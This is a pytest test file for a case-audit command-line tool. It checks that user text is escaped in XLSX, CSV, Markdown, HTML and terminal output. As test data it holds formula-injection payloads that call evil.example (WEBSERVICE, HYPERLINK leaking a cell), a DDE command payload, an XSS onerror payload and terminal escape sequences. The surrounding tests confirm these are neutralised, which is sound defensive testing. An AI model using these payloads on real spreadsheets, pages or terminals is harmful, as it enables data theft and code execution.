"""Nothing smuggled out: user text in every output (XLSX, CSV, Markdown, HTML, terminal) goes
through one escaping rule for its format (audit/core/safe_text.py), and the readers and the command
line fail with one clear line."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audit.core.safe_text import FORMULA_STARTS, for_csv_cell, for_markdown, for_terminal, from_csv_cell

ROOT = Path(__file__).resolve().parents[1]
DEMO_SHEET = ROOT / "data" / "demo" / "newham-2022.csv"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '=WEBSERVICE("http://evil.example/steal")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]
HOSTILE_UNIT = '=WEBSERVICE("http://evil.example/unit")'
HOSTILE_EVIDENCE = '=HYPERLINK("http://evil.example","Evidence")'
HOSTILE_ROUND = "=1+1"


def hostile_sheet(path: Path, teams: list[str]) -> Path:
    """The Newham demo sheet with each case's team (and practitioner) replaced by hostile text."""
    rows = list(csv.reader(io.StringIO(DEMO_SHEET.read_text(encoding="utf-8"))))
    team, practitioner = rows[0].index("team"), rows[0].index("practitioner")
    for n, row in enumerate(rows[1:]):
        row[team] = teams[n % len(teams)]
        row[practitioner] = teams[(n + 1) % len(teams)]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


@pytest.fixture
def hostile_db(cli, tmp_path) -> Path:
    """Two rounds of the Newham cases whose unit, teams, practitioners, domain-1 evidence and
    (earlier) round name are spreadsheet formulas."""
    db = tmp_path / "hostile.db"
    sheet = hostile_sheet(tmp_path / "hostile.csv", FORMULAS)
    assert cli("--db", db, "import", sheet, "--round", "Now", "--unit", HOSTILE_UNIT).code == 0
    assert cli("--db", db, "import", sheet, "--round", HOSTILE_ROUND, "--unit", HOSTILE_UNIT).code == 0
    result = cli("--db", db, "rate", "--round", "Now", "1.1", "Inadequate", "--evidence", HOSTILE_EVIDENCE)
    assert result.code == 0, result
    return db


def formula_elements(xlsx: Path) -> list[str]:
    """Every <f> element in the workbook's sheets, read from the XML itself."""
    found = []
    with zipfile.ZipFile(xlsx) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<(?:\w+:)?f[\s>/][^<]*", package.read(name).decode("utf-8"))
    return found


# ------------------------------------------------------------------ 1. XLSX
def test_xlsx_report_holds_user_text_as_strings_never_formulas(cli, hostile_db, tmp_path):
    out = tmp_path / "report.xlsx"
    result = cli("--db", hostile_db, "report", "--round", "Now", "--compare", HOSTILE_ROUND, "-o", out)
    assert result.code == 0, result
    assert formula_elements(out) == []
    workbook = openpyxl.load_workbook(out)
    texts = {c for ws in workbook.worksheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)}
    header = {c for ws in workbook.worksheets for c in next(ws.iter_rows(max_row=1, values_only=True))}
    assert HOSTILE_EVIDENCE in texts  # domain-1 evidence
    assert any(HOSTILE_UNIT in t and "is rated as" in t for t in texts)  # the lowest-key-question sentence
    assert set(FORMULAS) <= texts  # team names as breakdown labels, and the case sheet
    assert HOSTILE_ROUND in header  # the compared round's name heads the trend sheet


def test_xlsx_export_holds_user_text_as_strings(cli, hostile_db, tmp_path):
    out = tmp_path / "export.xlsx"
    assert cli("--db", hostile_db, "export", "--round", "Now", out).code == 0
    assert formula_elements(out) == []
    values = {c for row in openpyxl.load_workbook(out).active.iter_rows(values_only=True) for c in row}
    assert set(FORMULAS) <= values


# ------------------------------------------------------------------ 2. CSV
@given(st.text())
def test_csv_cell_escape_is_reversible_and_never_starts_a_formula(text):
    escaped = for_csv_cell(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert from_csv_cell(escaped) == text


def test_csv_export_neutralises_formulas(cli, hostile_db, tmp_path):
    out = tmp_path / "export.csv"
    assert cli("--db", hostile_db, "export", "--round", "Now", out).code == 0
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + FORMULAS[0] in cells
    summary = cli("--db", hostile_db, "summary", "--round", "Now", "--format", "csv").out
    assert not [c for row in csv.reader(io.StringIO(summary)) for c in row if c.startswith(FORMULA_STARTS)]


formula_leading = st.builds(
    lambda prefix, rest: (prefix + rest).strip(),
    st.sampled_from(["=", "+", "-", "@", "'", "'=", "''+", "'-", "@@", "\t=", "==", ""]),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30),
).filter(lambda t: t and len(t) <= 100)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(teams=st.lists(formula_leading, min_size=1, max_size=4), reason=formula_leading)
def test_csv_export_then_import_gives_exactly_the_same_values(tmp_path_factory, teams, reason):
    """Hypothesis: text beginning with a formula character (or quotes and one) survives export -> import."""
    from audit.sheets.case_sheet import export_sheet, import_sheet
    from audit.store import AuditStore
    from framework import Answer

    folder = tmp_path_factory.mktemp("roundtrip")
    with AuditStore.open(folder / "a.db") as store:
        round_row = store.create_round("R", "Unit", "hmip-probation-pdu-2021", store_framework_version(), created_by="t")
        for n, team in enumerate(teams):
            store.upsert_case(round_row, f"A{100000 + n}", {"team": team, "practitioner": teams[-1 - n]})
            store.record_answer(round_row, f"A{100000 + n}", "2.2.1a", Answer.NOT_APPLICABLE, reason=reason, auditor="t")
        export_sheet(store, store.round("R"), folder / "out.csv")
        before = export_values(store)
    raw = [c for row in csv.reader(io.StringIO((folder / "out.csv").read_text(encoding="utf-8-sig"))) for c in row]
    assert not [c for c in raw if c.startswith(FORMULA_STARTS)]
    with AuditStore.open(folder / "b.db") as fresh:
        import_sheet(fresh, folder / "out.csv", "R", unit="Unit")
        assert export_values(fresh) == before


any_text = st.builds(
    lambda prefix, rest: (prefix + rest).strip(),
    st.sampled_from(["", "\r", "a\rb", "a\r\nb", "_x000D_", "_x005F_x000D_", "x005F_", "=", "'", "\x0b", "line\nline"]),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30),
).filter(lambda t: t and len(t) <= 100)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(teams=st.lists(any_text, min_size=1, max_size=4), reason=any_text)
def test_xlsx_export_then_import_gives_exactly_what_was_stored_or_is_refused(tmp_path_factory, teams, reason):
    """Hypothesis: every value the XLSX export accepts imports back exactly (a carriage
    return came back as a line feed); one it cannot hold makes the export say 'Export as .csv'."""
    from audit.errors import InvalidValue
    from audit.sheets.case_sheet import export_sheet, import_sheet
    from audit.store import AuditStore
    from framework import Answer

    folder = tmp_path_factory.mktemp("xlsxtrip")
    with AuditStore.open(folder / "a.db") as store:
        round_row = store.create_round("R", "Unit", "hmip-probation-pdu-2021", store_framework_version(), created_by="t")
        for n, team in enumerate(teams):
            store.upsert_case(round_row, f"A{100000 + n}", {"team": team, "practitioner": teams[-1 - n]})
            store.record_answer(round_row, f"A{100000 + n}", "2.2.1a", Answer.NOT_APPLICABLE, reason=reason, auditor="t")
        before = export_values(store)
        try:
            export_sheet(store, store.round("R"), folder / "out.xlsx")
        except InvalidValue as refused:
            assert "Export as .csv" in str(refused) and not (folder / "out.xlsx").exists()
            return
    with AuditStore.open(folder / "b.db") as fresh:
        import_sheet(fresh, folder / "out.xlsx", "R", unit="Unit")
        assert export_values(fresh) == before


def store_framework_version() -> str:
    from framework import load_framework

    return load_framework().version


def export_values(store) -> list:
    rows = store.db.query(
        "SELECT c.case_ref, c.team, c.practitioner, a.value, a.reason FROM cases c LEFT JOIN answers a ON a.case_id = c.id ORDER BY 1"
    )
    return [tuple(r.values()) for r in rows]


# ------------------------------------------------------------------ 3. Markdown and HTML
MARKUP_UNIT = '<img src=x onerror="alert(1)"> PDU'
FORGED_EVIDENCE = "Fine.\n\n**Score 24/24**. Overall rating: **Outstanding**.\n# Fake heading\n| 2.2.1 | 101% |"


@pytest.fixture
def markup_db(cli, tmp_path) -> Path:
    db = tmp_path / "markup.db"
    assert cli("--db", db, "import", DEMO_SHEET, "--round", "R <script>", "--unit", MARKUP_UNIT).code == 0
    assert cli("--db", db, "rate", "--round", "R <script>", "1.1", "Inadequate", "--evidence", FORGED_EVIDENCE).code == 0
    return db


def assert_no_markup_or_forged_lines(text: str) -> None:
    assert "<img" not in text and "<script" not in text
    assert not [line for line in text.splitlines() if line.startswith("**Score 24/24")]
    assert not [line for line in text.splitlines() if line.startswith("# Fake")]
    assert not [line for line in text.splitlines() if line.startswith("| 2.2.1 | 101%")]


def test_markdown_report_escapes_markup_and_keeps_values_on_their_line(cli, markup_db, tmp_path):
    out = tmp_path / "report.md"
    assert cli("--db", markup_db, "report", "--round", "R <script>", "-o", out).code == 0
    text = out.read_text(encoding="utf-8")
    assert_no_markup_or_forged_lines(text)
    assert "Evidence: Fine.  \\*\\*Score 24/24\\*\\*." in text
    assert "&lt;img src=x onerror=\"alert(1)\"&gt; PDU is rated as 'Inadequate'" in text


def test_summary_markdown_escapes_markup(cli, markup_db):
    result = cli("--db", markup_db, "summary", "--round", "R <script>", "--format", "markdown")
    assert result.code == 0
    assert_no_markup_or_forged_lines(result.out)


def test_html_report_escapes_everything(cli, markup_db, tmp_path):
    out = tmp_path / "report.html"
    assert cli("--db", markup_db, "report", "--round", "R <script>", "-o", out).code == 0
    text = out.read_text(encoding="utf-8")
    assert "<img" not in text and "<script" not in text
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt; PDU" in text


def test_html_report_shows_control_characters_in_team_names_as_escapes(cli, tmp_path):
    db, sheet, out = tmp_path / "a.db", tmp_path / "s.csv", tmp_path / "report.html"
    sheet.write_text('case_ref,team,2.2.1\nA100001,"North\x1b]52;c;aGk=\x07\u202e",Yes\n', encoding="utf-8")
    assert cli("--db", db, "import", sheet, "--round", "R\x1b[2J", "--unit", "U").code == 0
    assert cli("--db", db, "report", "--round", "R\x1b[2J", "-o", out).code == 0
    text = out.read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)
    assert "R\\x1b[2J" in text and "North\\x1b]52;c;aGk=\\x07\\u202e" in text


@given(st.text())
def test_markdown_values_stay_on_one_line_without_markup(text):
    escaped = for_markdown(text)
    assert "\n" not in escaped and "\r" not in escaped
    assert "<" not in escaped and not re.search(r"(?<!\\)[*_`|\[\]]", escaped.replace("\\\\", ""))


# ------------------------------------------------------------------ 4. terminal
ESCAPES = "\x1b[2J\x1b[1A\x1b[2K\x9b31m\r\x07\u202e"


def no_raw_controls(text: str) -> bool:
    return not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", text)


def test_terminal_output_shows_control_characters_escaped(cli, tmp_path):
    db = tmp_path / "a.db"
    sheet = tmp_path / "s.csv"
    sheet.write_text(f'case_ref,team,2.2.1\nA100001,"Team{ESCAPES}",Yes\n', encoding="utf-8")
    name = f"Round{ESCAPES}"
    assert cli("--db", db, "import", sheet, "--round", name, "--unit", f"Unit{ESCAPES}").code == 0
    assert (
        cli(
            "--db",
            db,
            "--auditor",
            "me",
            "answer",
            "--round",
            name,
            "A100001",
            "2.2.1a",
            "N/A",
            "--reason",
            f"why{ESCAPES}",
            "--note",
            f"note\n{ESCAPES}",
        ).code
        == 0
    )
    # names are checked when given now (one printable line), but an older caseaudit's copy may still hold such a name
    conn = sqlite3.connect(db)
    conn.execute("DROP TRIGGER answer_history_no_update")
    conn.execute("UPDATE answer_history SET auditor = ? WHERE auditor = 'me'", [f"me{ESCAPES}"])
    conn.commit()
    conn.close()
    copy = tmp_path / "copy.db"
    assert cli("--db", db, "backup", copy).code == 0
    assert cli("--db", db, "answer", "--round", name, "A100001", "2.2.1b", "Yes", "--note", f"ours{ESCAPES}").code == 0
    assert cli("--db", copy, "answer", "--round", name, "A100001", "2.2.1b", "No", "--note", f"theirs{ESCAPES}").code == 0
    assert cli("--db", db, "merge", copy).code == 0
    outputs = {
        "rounds": cli("--db", db, "rounds"),
        "history": cli("--db", db, "history", "--round", name),
        "conflicts": cli("--db", db, "conflicts", "--round", name, "--all"),
        "summary": cli("--db", db, "summary", "--round", name),
        "json": cli("--db", db, "summary", "--round", name, "--format", "json"),
    }
    for command, result in outputs.items():
        assert result.code == 0, (command, result)
        assert no_raw_controls(result.out), (command, result.out)
    assert "\\x1b[2J" in outputs["rounds"].out and "\\x1b[2J" in outputs["history"].out
    assert "theirs\\x1b[2J" in outputs["conflicts"].out
    assert "note\\n\\x1b[2J" in outputs["history"].out
    assert json.loads(outputs["json"].out)["unit"] == f"Unit{ESCAPES}"  # the same value, escaped as JSON


def test_error_messages_show_control_characters_escaped(cli, tmp_path):
    sheet = tmp_path / f"sheet{ESCAPES}.csv"
    sheet.write_text("case_ref,2.2.1\nA100001,Maybe\n", encoding="utf-8")
    result = cli("--db", tmp_path / "a.db", "import", sheet, "--round", "R", "--unit", "U")
    assert result.code == 2
    assert no_raw_controls(result.err) and "sheet\\x1b[2J" in result.err
    assert for_terminal("a\x1bb\u202ec\n") == "a\\x1bb\\u202ec\\n"


# ------------------------------------------------------------------ 14. CSV encodings
def test_a_stray_byte_in_a_utf8_csv_is_refused_naming_the_row(cli, tmp_path):
    sheet = tmp_path / "s.csv"
    sheet.write_bytes("case_ref,team,2.2.1\nA100001,Équipe Sud,Yes\nA100002,Caf".encode() + b"\xe9,No\n")
    db = tmp_path / "a.db"
    result = cli("--db", db, "import", sheet, "--round", "R")
    assert result.code == 2, result
    assert "row 3, column B" in result.err and "not UTF-8" in result.err
    assert "No rounds yet" in cli("--db", db, "rounds").out


def test_a_windows_1252_csv_is_still_read(framework, tmp_path):
    from audit.sheets.case_sheet import parse_sheet

    sheet = tmp_path / "s.csv"
    sheet.write_bytes("case_ref,team,2.2.1\nA100001,Équipe Sud – Café,Yes\n".encode("cp1252"))
    assert parse_sheet(sheet, framework).cases[0].attributes["team"] == "Équipe Sud – Café"


# ------------------------------------------------------------------ 15. long reasons
def test_a_reason_longer_than_the_csv_field_limit_survives_export_and_import(cli, tmp_path):
    db = tmp_path / "a.db"
    sheet = tmp_path / "s.csv"
    sheet.write_text("case_ref,2.2.1\nA100001,Yes\n", encoding="utf-8")
    assert cli("--db", db, "import", sheet, "--round", "R", "--unit", "U").code == 0
    reason = "because " * 25_000  # 200,000 characters
    assert cli("--db", db, "answer", "--round", "R", "A100001", "2.2.1a", "N/A", "--reason", reason).code == 0
    out = tmp_path / "out.csv"
    assert cli("--db", db, "export", "--round", "R", out).code == 0
    fresh = tmp_path / "fresh.db"
    result = cli("--db", fresh, "import", out, "--round", "R", "--unit", "U")
    assert result.code == 0, result
    import sqlite3

    stored = sqlite3.connect(fresh).execute("SELECT reason FROM answers WHERE question_id = '2.2.1a'").fetchone()[0]
    assert stored == reason.strip()
    refused = cli("--db", db, "export", "--round", "R", tmp_path / "out.xlsx")  # an Excel cell holds 32,767
    assert refused.code == 2 and "Export as .csv" in refused.err and not (tmp_path / "out.xlsx").exists()


# ------------------------------------------------------------------ 16. samplesize
@pytest.mark.parametrize(
    "args",
    [
        ["--margin", "10", "--confidence", "nan"],
        ["--margin", "10", "--confidence", "inf"],
        ["--margin", "1e-300"],
        ["--margin", "nan"],
        ["--margin", "inf"],
        ["--margin", "10", "--confidence", "0"],
        ["--margin", "10", "--confidence", "-5"],
        ["--margin", "10", "--confidence", "100"],
        ["--margin", "-3"],
    ],
)
def test_samplesize_refuses_numbers_it_cannot_use(cli, args):
    result = cli("samplesize", *args)
    assert result.code == 2, result
    assert result.out == "" and len(result.err.strip().splitlines()) == 1 and "give a number" in result.err


def test_samplesize_accepts_usual_levels(cli):
    assert cli("samplesize", "--margin", "10", "--confidence", "90").out.startswith("65 relevant cases")


# ------------------------------------------------------------------ 17. a closed pipe
def test_a_reader_closing_the_pipe_gives_no_traceback(demo_db):
    process = subprocess.Popen(
        [sys.executable, "-m", "audit.cli", "--db", str(demo_db), "history", "--round", "Newham 2022"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=ROOT,
    )
    first = process.stdout.readline()
    process.stdout.close()  # like `| head -1`: the rest (hundreds of kilobytes) meets a closed pipe
    stderr = process.stderr.read().decode()
    process.wait(timeout=120)
    assert first
    assert "Traceback" not in stderr and "BrokenPipeError" not in stderr, stderr


def test_every_command_shows_file_names_framework_text_and_check_findings_escaped(cli, tmp_path, demo_db, monkeypatch):
    """Found by attacking: merge echoed the other file's name raw, framework titles and names reached
    `frameworks list/show` and `summary` raw, and `check` printed case references raw."""
    copy = tmp_path / f"evil{ESCAPES}.db"
    assert cli("--db", demo_db, "backup", copy).code == 0
    merged = cli("--db", demo_db, "merge", copy)
    assert merged.code == 0 and no_raw_controls(merged.out) and "evil\\x1b[2J" in merged.out
    # a shared framework file whose texts hold escape sequences
    monkeypatch.setenv("CASEAUDIT_FRAMEWORKS_DIR", str(tmp_path / "frameworks"))
    local = tmp_path / "local.toml"
    assert cli("frameworks", "new", "local-evil", "--from", "hmip-probation-pdu-2021", "-o", local).code == 0
    text = local.read_text(encoding="utf-8")
    text = text.replace('name = "Assessment"', 'name = "Assess\\u001b]52;c;cHduZWQ=\\u0007\\u001b[2Jment"', 1)
    text = re.sub(r'^title = "(.*)"$', lambda m: f'title = "{m.group(1)}\\u001b[2J"', text, count=1, flags=re.M)
    local.write_text(text, encoding="utf-8")
    assert cli("frameworks", "add", local).code == 0
    sheet = tmp_path / "s.csv"
    sheet.write_text("case_ref,2.2.1\nA100001,Yes\n", encoding="utf-8")
    assert cli("--db", tmp_path / "l.db", "import", sheet, "--round", "L", "--unit", "U", "--framework", "local-evil").code == 0
    for args in (
        ("frameworks", "list"),
        ("frameworks", "show", "local-evil"),
        ("frameworks", "show", "local-evil", "--format", "toml"),
        ("frameworks", "show", "local-evil", "--format", "json"),
        ("--db", tmp_path / "l.db", "summary", "--round", "L"),
        ("--db", tmp_path / "l.db", "summary", "--round", "L", "--format", "markdown"),
    ):
        result = cli(*args)
        assert result.code == 0 and no_raw_controls(result.out), (args, result.out[:300])
    # check names the problem without obeying what is stored
    conn = sqlite3.connect(demo_db)
    conn.execute("UPDATE cases SET case_ref = ? WHERE id = (SELECT min(id) FROM cases)", [f"N1{ESCAPES}"])
    conn.execute("UPDATE answers SET round_id = 'elsewhere' WHERE case_id = (SELECT min(id) FROM cases)")
    conn.commit()
    conn.close()
    checked = cli("--db", demo_db, "check")
    assert checked.code == 1 and no_raw_controls(checked.out) and "N1\\x1b[2J" in checked.out, checked


def test_a_note_or_reason_longer_than_a_sheet_cell_is_refused_when_given(cli, demo_db):
    """Whatever the app accepts survives export then import: import caps a cell at 1,000,000 characters,
    so a longer note or reason is refused when it is given, not when it is imported back."""
    from audit.store import AuditStore

    with AuditStore.open(demo_db) as store:
        ref = store.cases(store.round("Newham 2022"))[0]["case_ref"]
    too_long = "x" * 1_000_001
    for extra in (("--note", too_long), ("--reason", too_long)):
        result = cli("--db", demo_db, "answer", "--round", "Newham 2022", ref, "2.1.1", "N/A", *extra)
        assert result.code == 2 and "at most 1,000,000 characters" in result.err
